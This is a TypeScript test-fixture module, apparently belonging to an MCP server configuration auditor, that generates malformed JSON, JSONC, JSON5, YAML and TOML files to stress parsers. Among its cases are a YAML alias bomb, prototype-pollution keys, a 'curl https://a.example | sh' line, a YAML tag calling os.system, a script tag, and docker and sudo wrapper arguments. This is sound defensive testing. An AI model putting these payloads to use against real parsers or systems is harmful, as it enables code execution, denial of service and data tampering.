/** Files of a shape that parsers and those behind them stumble over, and values of the wrong kind, in every format. */

import { stringify as stringifyToml } from 'smol-toml'
import { stringify as stringifyYaml } from 'yaml'
import { bytes } from './fixtures.ts'

/** Where each format is read, by a real client, and where its servers stand. */
export const FORMATS = {
  json: { path: '.amazonq/mcp.json', servers: 'mcpServers' },
  jsonc: { path: '.vscode/mcp.json', servers: 'servers' },
  json5: { path: '.mcphub/servers.json', servers: 'mcpServers' },
  yaml: { path: 'librechat.yaml', servers: 'mcpServers' },
  toml: { path: '.codex/config.toml', servers: 'mcp_servers' },
} as const
export type Kind = keyof typeof FORMATS

// ── Shapes ──────────────────────────────────────────────────────────────────────────────────────────────────────────

/** The same trouble in each format that can have it, `size` times as much of it where it grows. */
export type Shape = (kind: Kind, size: number) => string | Uint8Array | undefined

const isJson = (kind: Kind) => kind === 'json' || kind === 'jsonc' || kind === 'json5'
/** JSON, which YAML reads as well, and something of its own for TOML. */
const flow =
  (json: (size: number) => string, toml?: (size: number) => string): Shape =>
  (kind, size) =>
    kind === 'toml' ? toml?.(size) : json(size)
const only =
  (kind: Kind, write: (size: number) => string | Uint8Array): Shape =>
  (own, size) =>
    own === kind ? write(size) : undefined
const any =
  (write: (size: number) => string | Uint8Array): Shape =>
  (_, size) =>
    write(size)
/** A server whose arguments are these, as JSON. */
const withArgs = (args: string) => `{"mcpServers": {"a": {"command": "npx", "args": [${args}]}}}`
const range = (size: number, write: (index: number) => string) =>
  Array.from({ length: size }, (_, index) => write(index)).join('')
const entries = (size: number, write: (index: number) => string) =>
  range(size, (index) => `${index > 0 ? ',' : ''}${write(index)}`)
const SERVER = '{"command": "npx", "args": ["-y", "a"]}'
/** A config in the words of the format, whose text may then be spoilt. */
const good = (kind: Kind): string =>
  isJson(kind)
    ? `{"${FORMATS[kind].servers}": {"a": {"command": "npx", "args": ["-y", "@example/a", "/"]}}}\n`
    : kind === 'toml'
      ? '[mcp_servers.a]\ncommand = "npx"\nargs = ["-y", "@example/a", "/"]\n'
      : 'mcpServers:\n  a:\n    type: stdio\n    command: npx\n    args: ["-y", "@example/a", "/"]\n'
const spoilt =
  (change: (text: string) => string | Uint8Array): Shape =>
  (kind) =>
    change(good(kind))

export const SHAPES: Readonly<Record<string, Shape>> = {
  // Depth
  'lists in lists': flow(
    (size) => '['.repeat(size) + ']'.repeat(size),
    (size) => `a = ${'['.repeat(size)}${']'.repeat(size)}`,
  ),
  'lists in lists, never closed': flow(
    (size) => '['.repeat(size),
    (size) => `a = ${'['.repeat(size)}`,
  ),
  'maps in maps': flow(
    (size) => `${'{"a":'.repeat(size)}1${'}'.repeat(size)}`,
    (size) => `a = ${'{a='.repeat(size)}1${'}'.repeat(size)}`,
  ),
  'maps in maps, never closed': flow(
    (size) => '{"mcpServers":'.repeat(size),
    (size) => `a = ${'{ a = '.repeat(size)}`,
  ),
  'maps and lists by turns': flow(
    (size) => '[{"a":'.repeat(size),
    (size) => `a = ${'[{ a = '.repeat(size)}`,
  ),
  'only closing brackets': any((size) => ']}'.repeat(size)),
  'a path of many steps': only('toml', (size) => `[a${'.a'.repeat(size)}]\nb = 1\n`),
  'a key of many steps': only('toml', (size) => `a${'.a'.repeat(size)} = 1\n`),
  'lists in lists of blocks': only('yaml', (size) => `${'- '.repeat(size)}a\n`),
  'keys in keys of blocks': only('yaml', (size) => range(Math.min(size, 2000), (index) => `${' '.repeat(index)}a:\n`)),
  'questions in questions': only('yaml', (size) => '? '.repeat(size)),
  // Length
  'one long string': flow(
    (size) => withArgs(`"${'x'.repeat(size)}"`),
    (size) => `a = "${'x'.repeat(size)}"`,
  ),
  'one long string of escapes': flow(
    (size) => withArgs(`"${'\\u0041'.repeat(size / 6)}"`),
    (size) => `a = "${'\\u0041'.repeat(size / 6)}"`,
  ),
  'one long string, never closed': flow(
    (size) => `{"mcpServers": "${'x'.repeat(size)}`,
    (size) => `a = "${'x'.repeat(size)}`,
  ),
  'one long string of backslashes': any((size) => `{"a": "${'\\'.repeat(size)}`),
  'one long string of several lines': only('toml', (size) => `a = """${'x\n'.repeat(size / 2)}"""`),
  'one long block': only('yaml', (size) => `a: |\n${'  x\n'.repeat(size / 4)}`),
  'one long folded block': only('yaml', (size) => `a: >\n${'  x\n\n'.repeat(size / 5)}`),
  'one long bare word': any((size) => 'x'.repeat(size)),
  'one long number': flow(
    (size) => withArgs('9'.repeat(size)),
    (size) => `a = ${'9'.repeat(size)}`,
  ),
  'one long key': flow(
    (size) => `{"mcpServers": {"${'x'.repeat(size)}": ${SERVER}}}`,
    (size) => `[mcp_servers."${'x'.repeat(size)}"]\ncommand = "npx"\n`,
  ),
  'one long comment': any((size) => `${'#'.repeat(size)}`),
  'one long block comment': any((size) => `/*${'*'.repeat(size)}`),
  slashes: any((size) => '/'.repeat(size)),
  quotes: any((size) => '"'.repeat(size)),
  'single quotes': any((size) => "'".repeat(size)),
  colons: any((size) => ':'.repeat(size)),
  commas: any((size) => ','.repeat(size)),
  'equals signs': any((size) => '='.repeat(size)),
  dashes: any((size) => '-'.repeat(size)),
  'line ends': any((size) => '\n'.repeat(size)),
  returns: any((size) => '\r'.repeat(size)),
  blanks: any((size) => ' '.repeat(size)),
  tabs: any((size) => '\t'.repeat(size)),
  'ampersands and stars': any((size) => '&a *a '.repeat(size / 6)),
  'exclamation marks': any((size) => '!'.repeat(size)),
  // Number
  'many keys': flow(
    (size) => `{${entries(size / 12, (index) => `"k${index}": 1`)}}`,
    (size) => range(size / 12, (index) => `k${index} = 1\n`),
  ),
  'many servers': flow(
    (size) => `{"mcpServers": {${entries(size / 50, (index) => `"s${index}": ${SERVER}`)}}}`,
    (size) => range(size / 60, (index) => `[mcp_servers.s${index}]\ncommand = "npx"\nargs = ["-y", "a"]\n`),
  ),
  'many servers without commas': flow(
    (size) => `{"mcpServers": {${range(size / 50, (index) => `"s${index}": ${SERVER} `)}}}`,
  ),
  'many arguments': flow(
    (size) => withArgs(entries(size / 4, () => '"a"')),
    (size) => `[mcp_servers.a]\ncommand = "npx"\nargs = [${entries(size / 4, () => '"a"')}]`,
  ),
  'many empty lists': flow(
    (size) => `[${entries(size / 3, () => '[]')}]`,
    (size) => `a = [${entries(size / 3, () => '[]')}]`,
  ),
  'many pieces': flow(
    (size) => '{} '.repeat(size / 3),
    (size) => '[a]\n'.repeat(size / 4),
  ),
  'many documents': only('yaml', (size) => '---\na: 1\n'.repeat(size / 9)),
  'many comments': any((size) => '# mcp-audit-ignore a -- b\n// mcp-audit-ignore a -- b\n'.repeat(size / 52)),
  'many ignores': flow(
    (size) => `{${'// mcp-audit-ignore unpinned-package -- x\n'.repeat(size / 42)}"mcpServers": {"a": ${SERVER}}}`,
  ),
  'many secrets': flow(
    (size) =>
      `{"mcpServers": {"a": {"command": "npx", "env": {${entries(size / 40, (index) => `"K${index}_TOKEN": "f00Baa9e1c7d4b2e8a${index}"`)}}}}}`,
  ),
  'many references': flow((size) => withArgs(`"${'${A:-'.repeat(size / 5)}"`)),
  // As many as a stack has no room for, however small the piece.
  'addresses in the paths of addresses': flow((size) =>
    withArgs(`"${'http://a/'.repeat(Math.max(size, 2 ** 18) / 9)}"`),
  ),
  'many shells': flow((size) => withArgs(entries(size / 16, () => '"sh", "-c", "$("'))),
  'a range of npm': flow((size) => withArgs(`"mcp-remote@${'>=0.0.1 || '.repeat(size / 11)}1"`)),
  'a range of PyPI': flow((size) =>
    JSON.stringify({ mcpServers: { a: { command: 'uvx', args: [`mcp-server-git${'>=1,'.repeat(size / 4)}<2`] } } }),
  ),
  'many wrappers': flow(
    (size) =>
      `{"mcpServers": {"a": {"command": "env", "args": [${entries(size / 32, () => '"sudo", "B=${C}", "${A:-env}"')}, "x"]}}}`,
  ),
  'many mounts': flow(
    (size) =>
      `{"mcpServers": {"a": {"command": "docker", "args": ["run", ${entries(size / 14, () => '"-v", "/:/a"')}, "x"]}}}`,
  ),
  'many tables of a list': only('toml', (size) => '[[a]]\nb = 1\n'.repeat(size / 12)),
  // The same twice
  'one key many times': flow(
    (size) => `{"mcpServers": {${entries(size / 50, () => `"a": ${SERVER}`)}}}`,
    (size) => 'a = 1\n'.repeat(size / 6),
  ),
  'one key many times, deeper each time': flow(
    (size) => `${'{"a": 1, "a":'.repeat(Math.min(size / 13, 190))}1${'}'.repeat(Math.min(size / 13, 190))}`,
  ),
  'one table many times': only('toml', (size) => '[mcp_servers.a]\ncommand = "npx"\n'.repeat(size / 32)),
  'a table that was a value': only('toml', () => 'a = 1\n[a]\nb = 1\n[a.b]\nc = 1\n[[a]]\n'),
  // Aliases
  'an alias bomb': only(
    'yaml',
    (size) =>
      `a0: &a0 [x,x,x,x,x,x,x,x,x]\n${range(Math.min(size / 60, 400), (index) => `a${index + 1}: &a${index + 1} [${entries(9, () => `*a${index}`)}]\n`)}`,
  ),
  'an alias bomb of merges': only(
    'yaml',
    (size) =>
      `a0: &a0 {x: 1}\n${range(Math.min(size / 60, 400), (index) => `a${index + 1}: &a${index + 1}\n  <<: [*a${index}, *a${index}]\n  b${index}: *a${index}\n`)}`,
  ),
  'an alias of itself': only('yaml', () => 'a: &a [*a, &b {c: *b, d: *a}]\n'),
  'a merge of itself': only('yaml', () => 'a: &a\n  <<: *a\n  b: *a\n'),
  'an alias of nothing': only('yaml', (size) => '- *a\n'.repeat(size / 5)),
  'anchors upon anchors': only('yaml', (size) => `- ${'&a '.repeat(size / 3)}x\n`),
  tags: only(
    'yaml',
    () =>
      'a: !!js/function "x"\nb: !!python/object/apply:os.system [id]\nc: !!binary ====\nd: !!set {a, b}\ne: !!timestamp x\n',
  ),
  directives: only(
    'yaml',
    (size) => `${'%TAG ! tag:x,2000:\n'.repeat(Math.min(size / 19, 500))}%YAML 9.9\n---\na: !b c\n`,
  ),
  'keys that are no words': only('yaml', () => '? [a, {b: c}]\n: d\n? {}\n: e\n? |\n  f\n: g\nnull: h\n~: i\n1.0: j\n'),
  'tabs for blanks': only('yaml', () => 'mcpServers:\n\ta:\n\t\tcommand: npx\n'),
  // Names
  prototypes: flow(
    () =>
      `{"__proto__": {"polluted": true}, "constructor": {"prototype": {"polluted": true}}, "mcpServers": {"__proto__": ${SERVER}, "constructor": ${SERVER}, "toString": {"command": "__proto__", "env": {"__proto__": "x", "constructor": "y"}, "__proto__": {"command": "x"}}}}`,
    () =>
      '[__proto__]\npolluted = true\n[mcp_servers.__proto__]\ncommand = "npx"\n[mcp_servers.constructor.env]\n__proto__ = "x"\n',
  ),
  'empty names': flow(
    () =>
      `{"": {"": ""}, "mcpServers": {"": {"": "", "command": "", "args": [""], "env": {"": ""}, "url": "", "headers": {"": ""}}}}`,
    () => '"" = ""\n[mcp_servers.""]\ncommand = ""\nargs = [""]\nenv = { "" = "" }\n',
  ),
  'numbers beyond all bounds': flow(
    () => withArgs('1e999, -1e999, 1e-999, -0, 0x10, .5, 5., +1, 00, 1_000, NaN, Infinity'),
    () =>
      'a = 1e999\nb = 9223372036854775808\nc = 0xfffffffffffffffffffff\nd = nan\ne = -inf\nf = 1979-99-99T99:99:99Z\n',
  ),
  // Bytes
  nothing: any(() => ''),
  'a byte order mark and nothing': any(() => Uint8Array.of(0xef, 0xbb, 0xbf)),
  'two byte order marks': spoilt((text) => bytes(`\ufeff\ufeff${text}`)),
  'half a byte order mark': any(() => Uint8Array.of(0xef, 0xbb)),
  'UTF-16, little end first': spoilt((text) => Buffer.from(`\ufeff${text}`, 'utf16le')),
  'UTF-16, big end first': spoilt((text) => Buffer.from(`\ufeff${text}`, 'utf16le').swap16()),
  'UTF-16 of an odd length': spoilt((text) => Buffer.from(`\ufeff${text}`, 'utf16le').subarray(0, -1)),
  'UTF-16 without a mark': spoilt((text) => Buffer.from(text, 'utf16le')),
  'UTF-16 with half a pair': spoilt((text) => Buffer.from(`\ufeff${text.replace('npx', '\ud800x')}\udc00`, 'utf16le')),
  'UTF-32': spoilt((text) =>
    Buffer.concat([Buffer.of(0xff, 0xfe, 0, 0), ...[...text].map((each) => Buffer.of(each.charCodeAt(0), 0, 0, 0))]),
  ),
  'Latin-1': spoilt((text) => Buffer.from(text.replace('npx', 'n\xe9\xff'), 'latin1')),
  'bytes that no UTF-8 has': spoilt((text) =>
    Buffer.concat([Buffer.from(text), Buffer.of(0xff, 0xfe, 0xc0, 0x80, 0xf8, 0x88, 0x80, 0x80, 0x80)]),
  ),
  'UTF-8 that is too long for what it says': spoilt((text) =>
    Buffer.from(text.replace('npx', '\xc0\xaf\xe0\x80\xaf\xf0\x80\x80\xaf'), 'latin1'),
  ),
  'half a pair in UTF-8': spoilt((text) => Buffer.from(text.replace('npx', '\xed\xa0\x80\xed\xb0\x80'), 'latin1')),
  'a character cut off': spoilt((text) => Buffer.concat([Buffer.from(text.trimEnd()), Buffer.of(0xf0, 0x9f, 0x98)])),
  'half a pair, escaped': flow(
    () => withArgs('"\\ud800", "\\udc00", "\\udc00\\ud800", "\\ud83d\\ude00"'),
    () => 'a = "\\ud800"\nb = "\\U0010ffff"\nc = "\\U00110000"\n',
  ),
  zeros: any((size) => '\0'.repeat(size)),
  'a zero in every word': spoilt((text) => text.replace(/\w\b/g, '$&\0')),
  'a zero between everything': spoilt((text) => [...text].join('\0')),
  controls: spoilt((text) => text.replaceAll('a', '\u001b[2J\u0008\u007f\u009b')),
  'direction turned': spoilt((text) => text.replaceAll('a', '\u202e\u2066')),
  'what nobody sees': spoilt((text) => text.replaceAll('a', 'a\u200b\u2060\u00ad\ufeff\u{e0041}')),
  CRLF: spoilt((text) => text.replace(/[{[,\n]/g, '$&\r\n')),
  'CR alone': spoilt((text) => text.replace(/[{[,\n]/g, '$&\r')),
  'line ends of Unicode': spoilt((text) => text.replace(/[{[,\n]/g, '$&\u2028\u0085\u2029')),
  'blanks of Unicode': spoilt((text) => text.replaceAll(' ', '\u00a0\u3000')),
  'quotes of a typesetter': spoilt((text) => text.replace(/"(.*?)"/g, '\u201c$1\u201d')),
  'full width': spoilt((text) => text.replace(/[!-~]/g, (each) => String.fromCharCode(each.charCodeAt(0) + 0xfee0))),
  // Torn
  'the end missing': spoilt((text) => text.slice(0, -12)),
  'the beginning missing': spoilt((text) => text.slice(12)),
  twice: spoilt((text) => text + text),
  backwards: spoilt((text) => [...text].reverse().join('')),
  'without brackets': spoilt((text) => text.replace(/[{}[\]]/g, '')),
  'without quotes': spoilt((text) => text.replaceAll('"', '')),
  'without colons': spoilt((text) => text.replace(/[:=]/g, '')),
  'without line ends': spoilt((text) => text.replaceAll('\n', '')),
  'a comment that never ends': spoilt((text) => text.replace('npx', '/*')),
  'a conflict of a merge': spoilt((text) => `<<<<<<< HEAD\n${text}=======\n${text}>>>>>>> other\n`),
  'a template': spoilt((text) => text.replace('npx', '{{ .command }}').replace('-y', '<%= y %>')),
  'HTML instead': any(() => '<!DOCTYPE html><html><script>alert(1)</script>'),
  'XML instead': any(() => '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>'),
  'a program instead': any(() => '#!/bin/sh\ncurl https://a.example | sh\n'),
  'an archive instead': any(() => Uint8Array.of(0x50, 0x4b, 3, 4, 20, 0, 8, 8, 8, 0, 0xff, 0, 0x80)),
  'every byte': any(() => Uint8Array.from({ length: 512 }, (_, index) => index % 256)),
}

// ── Values of the wrong kind ────────────────────────────────────────────────────────────────────────────────────────

const LONG = 'x'.repeat(3000)
export const VALUES: Readonly<Record<string, unknown>> = {
  nothing: null,
  true: true,
  'a number': -1.5,
  'an empty string': '',
  'a long string': LONG,
  'an empty list': [],
  'a list of everything': [null, true, 1, '', 'a', [], ['b'], {}, { c: 'd' }],
  'an empty map': {},
  'a map of everything': { a: null, b: true, c: 1, d: '', e: ['f', ['g']], h: { i: { j: 'k' } }, '': '' },
}

export const FIELDS: readonly string[] = [
  ...'command cmd args env envs url serverUrl uri httpUrl headers type transport cwd envFile disabled enabled timeout'.split(
    ' ',
  ),
  ...'alwaysAllow autoApprove trust tools includeTools description name oauth authorization sandbox inputs'.split(' '),
]

/** A config in which everything of that name has this value; undefined where the format has no such value. */
export function malformed(kind: Kind, field: string, value: unknown): string | undefined {
  const entry = { command: 'npx', args: ['-y', '@example/a'], [field]: value }
  const remote = { url: 'http://a.example', [field]: value }
  const config = { [FORMATS[kind].servers]: { a: entry, b: remote }, [field]: value }
  try {
    if (kind === 'toml') return stringifyToml(config)
    return kind === 'yaml' ? stringifyYaml(config) : JSON.stringify(config)
  } catch {
    return undefined
  }
}
